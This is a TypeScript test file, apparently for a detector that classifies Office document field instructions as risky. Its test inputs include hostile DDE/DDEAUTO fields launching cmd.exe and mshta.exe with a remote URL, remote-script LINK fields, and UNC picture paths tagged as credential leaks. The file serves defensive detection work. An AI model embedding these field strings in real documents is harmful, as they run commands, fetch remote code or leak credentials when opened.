import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { OFFICE } from '#inspect/catalogue/office.ts'
import { INSTRUCTION_MAX } from '#inspect/codecs/field-instructions.ts'
import { judgeField } from './fields.ts'

const idOf = (instruction: string): string | undefined =>
  judgeField(instruction, OFFICE.ddeField, () => {})?.definition.id

suite('a field is judged by its name and target', () => {
  for (const [instruction, id] of [
    ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', 'Docvet.Ooxml.DdeField'],
    ['DDE "C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..\\\\cmd.exe" "a"', 'Docvet.Ooxml.DdeField'],
    ['DDEAUTO Excel "..\\\\..\\\\windows\\\\system32\\\\mshta.exe http://example.com/a"', 'Docvet.Ooxml.DdeField'],
    ['dDeAuTo unknown topic', 'Docvet.Ooxml.DdeField'],
    ['DDEAUTO', 'Docvet.Ooxml.DdeField'],
    ['DDEAUTO Excel', 'Docvet.Ooxml.DdeField'],
    ['DDEAUTO Excel "C:\\\\reports\\\\q3.xlsx" "Sheet1!R1C1"', 'Docvet.Office.DdeDocument'],
    ['DDE Excel.Sheet.8 "\\\\\\\\server\\\\a.xls" R1C1', 'Docvet.Office.RemoteText'],
    ['INCLUDETEXT "http://example.com/a"', 'Docvet.Office.RemoteText'],
    ['INCLUDETEXT \\\\server\\a.docx', 'Docvet.Office.CompanyServer'],
    ['INCLUDETEXT \\\\files.example.com\\a.docx', 'Docvet.Ooxml.FileServerReference'],
    ['INCLUDETEXT "http://192.0.2.1/a.docx"', 'Docvet.Office.RemoteText'],
    ['DDE \\* MERGEFORMAT', 'Docvet.Office.DdeDocument'],
    ['DDEAUTO cmd \\* MERGEFORMAT', 'Docvet.Ooxml.DdeField'],
    ['INCLUDETEXT "C:\\\\a.docx"', undefined],
    ['INCLUDEPICTURE \\d "https://example.com/a.png" \\* MERGEFORMAT', 'Docvet.Ooxml.RemotePicture'],
    ['INCLUDEPICTURE "\\\\\\\\192.0.2.1\\\\a.png"', 'Docvet.Office.CredentialLeak'],
    ['IMPORT "file://server/a.wmf"', 'Docvet.Office.CompanyServer'],
    ['INCLUDEPICTURE "images\\\\a.png"', undefined],
    ['LINK Word.Document.8 "http://example.com/a.doc" "" \\a', 'Docvet.Ooxml.RemoteObject'],
    ['LINK htmlfile "script:http://example.com/a"', 'Docvet.Ooxml.RemoteObject'],
    ['LINK Excel.Sheet.12 "\\\\\\\\server\\\\a.xlsx" "S!R1C1"', 'Docvet.Office.CompanyServer'],
    ['LINK Excel.Sheet.12 "C:\\\\a.xlsx" "S!R1C1"', 'Docvet.Ooxml.LinkedObject'],
    ['DATABASE \\d "\\\\\\\\server\\\\a.mdb" \\c "DSN=a" \\s "SELECT 1"', 'Docvet.Office.RemoteMailMerge'],
    ['PAGEREF _Toc1 \\h', undefined],
    ['IF DDE = 1', undefined],
    ['DDEX a b', undefined],
    ['', undefined],
  ] as const)
    test(instruction, () => assert.equal(idOf(instruction), id))
})

test('the target of a hyperlink is passed on, a place in the document is not', () => {
  const targets: string[] = []
  const add = (target: string): unknown => targets.push(target)
  judgeField(' HYPERLINK "https://example.com/a" \\o "tip"', OFFICE.ddeField, add)
  judgeField('HYPERLINK \\l "_Toc1"', OFFICE.ddeField, add)
  assert.deepEqual(targets, ['https://example.com/a'])
})

test('instructions are read up to a limit', () => {
  const padded = (length: number): string => `INCLUDETEXT "${'a'.repeat(length)}" "http://example.com/"`
  const head = 'INCLUDETEXT "" "http://'.length
  assert.equal(idOf(padded(INSTRUCTION_MAX - head - 1)), 'Docvet.Office.RemoteText')
  assert.equal(idOf(padded(INSTRUCTION_MAX)), undefined)
})
